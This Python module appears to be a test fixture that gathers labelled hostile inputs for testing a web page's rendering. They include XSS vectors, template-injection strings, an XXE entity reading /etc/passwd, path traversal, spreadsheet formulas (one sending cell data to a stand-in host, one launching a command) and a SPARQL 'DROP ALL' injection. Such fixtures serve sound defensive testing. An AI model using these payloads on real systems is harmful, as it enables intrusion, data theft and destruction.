"""Texts a hostile document could hold, by name: each was made to break something a page is built with."""

from __future__ import annotations

__all__ = ["PAYLOADS"]

TRAP = "window.pwned=1"
LONG = 100_000

HTML = {
    "image": f'<img src=x onerror="{TRAP};alert(1)">',
    "image without quotes": f"<img src=x onerror={TRAP}>",
    "image with slashes": f"<img/src=x/onerror={TRAP}//",
    "image, unclosed": f"<img src=x onerror={TRAP} ",
    "image in capitals": f"<IMG SRC=x OnErRoR={TRAP}>",
    "iframe": f'<iframe src="javascript:parent.{TRAP}"></iframe>',
    "iframe of its own": f"<iframe srcdoc='<script>parent.{TRAP}</script>'></iframe>",
    "object": "<object data=javascript:alert(1)></object>",
    "embed": "<embed src=javascript:alert(1)>",
    "video": f"<video><source onerror={TRAP}></video>",
    "audio": f"<audio src=x onerror={TRAP}>",
    "details": f"<details open ontoggle={TRAP}>",
    "marquee": f"<marquee onstart={TRAP}>",
    "form": f"<form action=javascript:{TRAP}><input type=submit>",
    "button": f"<button formaction=javascript:{TRAP} autofocus>",
    "input": f"<input autofocus onfocus={TRAP}>",
    "select": f"<select autofocus onfocus={TRAP}>",
    "body": f"<body onload={TRAP}>",
    "base": "<base href=https://example.invalid/>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://example.invalid/'>",
    "link": "<link rel=stylesheet href=https://example.invalid/x.css>",
    "prefetch": "<link rel=dns-prefetch href=//example.invalid>",
    "dialog": "<dialog open>好</dialog>",
    "popover": f"<div popover onbeforetoggle={TRAP} id=x><button popovertarget=x>",
    "custom element": f"<x-y tabindex=1 onfocus={TRAP} autofocus>",
    "half a tag": "<",
    "half an entity": "&#x3c;img src=x onerror=alert(1)&gt; &lt &amp; &nbsp;",
    "doctype": "<!doctype html><html><head><title>x",
    "shadow": f"<div><template shadowrootmode=open><img src=x onerror={TRAP}></template></div>",
}
SCRIPT = {
    "script": f"<script>{TRAP}</script>",
    "end of a script": f"</script><script>{TRAP}</script>",
    "end of a script with space": f"</script ><script>{TRAP}</script >",
    "end of a script in capitals": f"</SCRIPT/x><SCRIPT>{TRAP}</SCRIPT>",
    "comment": "<!--<script>",
    "comment in a script": f"<!--<script>-->{TRAP}//<!--",
    "cdata": f"]]><script>{TRAP}</script><![CDATA[",
    "module": "<script type=module>import 'https://example.invalid/x.js'</script>",
    "end of a title": f"</title><script>{TRAP}</script>",
    "end of a style": "</style><style>body{display:none}</style>",
    "end of noscript": f"</noscript><img src=x onerror={TRAP}>",
    "end of textarea": f"</textarea><script>{TRAP}</script>",
}
ATTRIBUTES = {
    "double quote": f'" onmouseover="{TRAP}" x="',
    "single quote": f"' onmouseover='{TRAP}' x='",
    "backtick": f"` onmouseover=`{TRAP}` x=`",
    "no quote": f"x onmouseover={TRAP} autofocus onfocus={TRAP}",
    "end of a tag": f'"><svg onload={TRAP}>',
    "style attribute": '" style="position:fixed;inset:0;background:red',
    "id that is taken": 'panel" id="data',
    "selector": 't1\'] , [data-id="a1"], *, :root { } \\',
}
JSON = {
    "quote": '"],"x":"\\u003c',
    "backslash": "\\",
    "backslash and quote": '\\"; window.pwned=1; //',
    "escapes": "\\u0022\\x22\\n\\r\\0",
    "separators": "甲\u2028乙\u2029丙",
    "line feeds": "甲\n乙\n丙",
    "carriage return": "甲\r\n乙\r丙",
    "tabs": "\t甲\t乙",
    "null": "null",
    "true": "true",
    "number": "1e999",
    "array": "[]",
    "not a number": "NaN",
    "undefined": "undefined",
}
TEMPLATES = {
    "jinja": "{{7*7}}{% raw %}{# x #}",
    "jinja that reaches out": "{{ self.__init__.__globals__ }}{{ config }}{{ cycler }}",
    "template literal": "${window.pwned=1}`${7*7}`",
    "angular": "{{constructor.constructor('window.pwned=1')()}}",
    "places of the page's words": "{0} {1} {2}",
    "format": "%s %d %(x)s %n {x!r}",
    "replacement": "$& $1 $$ $` $'",
    "php": "<?php system('id') ?><% alert(1) %>",
}
CSS = {
    "rule": "} body { display: none } /*",
    "import": "@import url(https://example.invalid/x.css);",
    "url": "url(https://example.invalid/x.png)",
    "expression": "expression(alert(1)); behavior: url(x)",
    "custom property": "var(--paper); --paper: red",
    "font": '"; } * { color: transparent } x { font: "',
}
ADDRESSES = {
    "javascript": f"javascript:{TRAP}",
    "javascript with tabs": f"java\tscript:{TRAP}",
    "javascript in capitals": f"JaVaScRiPt:{TRAP}//%0a",
    "data": "data:text/html,<script>parent.pwned=1</script>",
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "web": "https://example.invalid/?a=1&b=2#view=matrix",
    "no scheme": "//example.invalid/x.png",
    "path": "../../../../etc/passwd",
    "address of the page": "#view=network&at=t1&not-roles=0.1.2.3",
    "words of a link": "href <a href='javascript:alert(1)'>x</a>",
    "percent": "%3Cscript%3Ewindow.pwned=1%3C/script%3E%00%ff",
}
SVG = {
    "svg": f"<svg/onload={TRAP}>",
    "script in svg": f"<svg><script>{TRAP}</script></svg>",
    "animation": f"<svg><animate onbegin={TRAP} attributeName=x dur=1s>",
    "use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "foreign object": f"<svg><foreignObject><img src=x onerror={TRAP}></foreignObject></svg>",
    "math": f"<math><mtext><img src=x onerror={TRAP}></mtext></math>",
    "math link": "<math href='javascript:alert(1)'>x</math>",
    "end of svg text": f"</text></svg><img src=x onerror={TRAP}>",
    "entity of xml": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
}
MUTATIONS = {
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={TRAP}>">',
    "math and style": f"<math><mtext><table><mglyph><style><img src=x onerror={TRAP}>",
    "svg and style": f'<svg></p><style><a id="</style><img src=1 onerror={TRAP}>">',
    "form in form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={TRAP}>",
    "listing": f"<listing>&lt;img src=x onerror={TRAP}&gt;</listing>",
    "plaintext": "<plaintext>",
    "select and style": f"<select><style><img src=x onerror={TRAP}></style></select>",
}
NAMES = {
    name: name
    for name in (
        "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "__defineGetter__", "length",
        "then", "task", "a1", "t1", "e1", "a1~a2",
    )
}  # fmt: skip
WRITING = {
    "right to left": "甲\u202e乙丙\u2066丁",
    "right to left, unclosed": "\u202e\u202e\u2067\u2067甲乙",
    "arabic": "مرحبا بالعالم 甲",
    "hebrew and numbers": "שלום 123 甲 (456)",
    "marks of direction": "\u200e\u200f\u061c甲",
    "zero width": "甲\u200b乙\ufeff丙\u00ad丁\u200d戊\u2060",
    "nothing but zero width": "\u200b",
    "nothing but spaces": " \u3000\u00a0 ",
    "flood of marks": "甲" + "\u0301" * 400,
    "flood in every letter": "".join(letter + "\u0336\u0489\u20dd" * 30 for letter in "甲乙丙丁"),
    "control characters": "甲\u0001\u0008\u000b\u000c\u001b[31m\u007f\u0085乙",
    "noncharacters": "甲\ufffe\uffff\ufdd0乙",
    "private": "甲\ue000\U000f0000乙",
    "astral": "𠮷野家\U0001f600局",
    "family": "👨‍👩‍👧‍👦🏳️‍🌈🇨🇳局",
    "variants": "葛\U000e0100城市\ufe00",
    "tags": "甲\U000e0041\U000e0042\U000e007f乙",
    "ligature": "\ufdfd\ufdfd\ufdfd",
    "tall": "ༀ꧅𒐫꧅",
    "decomposed": "e\u0301 Å ﬁ ㎏ ﷺ",
    "turkish": "İıſK",
    "quoted commas": 'a,"b",c;d|e',
}
LENGTHS = {
    "long, without a break": "甲" * LONG,
    "long word": "x" * 5_000,
    "long address": "https://example.invalid/" + "a/" * 2_000,
    "many lines": "甲\n" * 2_000,
    "many words": "甲 " * 5_000,
}
FILES = {
    "formula": "=1+1",
    "formula that runs": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1,1)",
    "formula after a tab": "\t=1+1",
    "formula that asks": '=HYPERLINK("https://example.invalid/?"&A1,"x")',
    "end of a literal": '""" . <x:a> <x:b> <x:c> . """',
    "end of an address": "> <x:b> <x:c> . <x:d",
    "update": "'} ; DROP ALL ; INSERT DATA { <x:a> <x:b> '",
    "filter": '") || true || ("',
    "prefix": "@prefix : <x:> . :a :b :c .",
}
# Every name says what it is; every text is another.
PAYLOADS: dict[str, str] = {
    **HTML, **SCRIPT, **ATTRIBUTES, **JSON, **TEMPLATES, **CSS, **ADDRESSES, **SVG, **MUTATIONS, **NAMES, **WRITING,
    **LENGTHS, **FILES,
}  # fmt: skip
